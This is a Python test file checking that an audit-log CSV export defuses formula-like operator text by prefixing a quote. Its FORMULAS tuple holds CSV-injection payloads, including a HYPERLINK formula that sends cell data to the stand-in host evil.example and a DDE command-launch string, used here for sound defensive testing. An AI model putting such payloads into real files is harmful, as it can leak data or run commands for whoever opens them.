"""The audit log's CSV never hands a spreadsheet a formula: free text an operator typed (an
actor, a forced resend's reason) that starts like one (=, +, -, @, tab, CR) is written with a leading
``'``; ids, hashes, counts and times are written as they are."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator
from datetime import date

import pytest

from carrierfeeds.audit import delivery_lines, lines_to_csv
from carrierfeeds.ledger import Ledger
from test_audit import _at, _deliver, _ok

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


@pytest.fixture
def ledger(ledger_url: str) -> Iterator[Ledger]:
    opened = Ledger.open(ledger_url)
    opened.upgrade()
    yield opened
    opened.close()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_like_actor_and_reason_are_neutralised(ledger: Ledger) -> None:
    ledger.record_authorisation(feed_id="acme-sunrise", employer_id="acme", carrier_id="sunrise", plans=["MED"],
                                effective_from=date(2026, 1, 1), effective_to=None, recorded_by="t", now=_at(0, 1))
    for day, formula in enumerate(FORMULAS):
        _, delivery_id = _deliver(ledger, "acme-sunrise", day, outcomes=[_ok(actor=formula)])
        ledger.record_delivery_outcome(delivery_id, status="forced_resend", now=_at(day, 9), actor=formula,
                                       reason=formula)
    rows = _rows(lines_to_csv(delivery_lines(ledger)))
    assert [(r["actor"], r["forced_reason"]) for r in rows] == [("'" + f, "'" + f) for f in FORMULAS]
    # Nothing else moved: ids, hashes and times are as the ledger holds them.
    assert all(not r["payload_sha256"].startswith("'") and r["sent_at"].startswith("2026-03-") for r in rows)


@pytest.mark.parametrize("lead", ["\t", "\r"])
def test_a_tab_or_carriage_return_lead_is_neutralised(ledger: Ledger, lead: str) -> None:
    _deliver(ledger, "acme-sunrise", 0, outcomes=[_ok(actor="ops")])
    (line,) = delivery_lines(ledger)
    text = lines_to_csv([dataclasses.replace(line, actor=f"{lead}=1+1", forced_reason="plain words")])
    # (the ledger refuses control characters in an actor; this is the writer's own guard)
    assert f"'{lead}=1+1" in text and f",{lead}=1+1" not in text and ",plain words," in text
